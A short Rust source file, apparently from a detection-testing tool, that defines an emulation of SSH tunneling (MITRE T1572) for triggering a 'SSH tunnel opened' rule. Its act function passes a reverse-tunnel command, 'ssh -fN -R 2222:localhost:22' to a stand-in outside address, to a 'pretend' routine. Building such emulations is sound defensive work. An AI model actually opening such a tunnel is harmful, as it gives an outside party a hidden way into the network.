//! A way back into this network, by a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "ssh-tunnel",
    title: "SSH tunnel opened",
    technique: "T1572",
    technique_v18: None,
    needs: &[],
    rules: &["SSH tunnel opened"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("ssh", &["-fN", "-R", "2222:localhost:22", "192.0.2.1"])
}
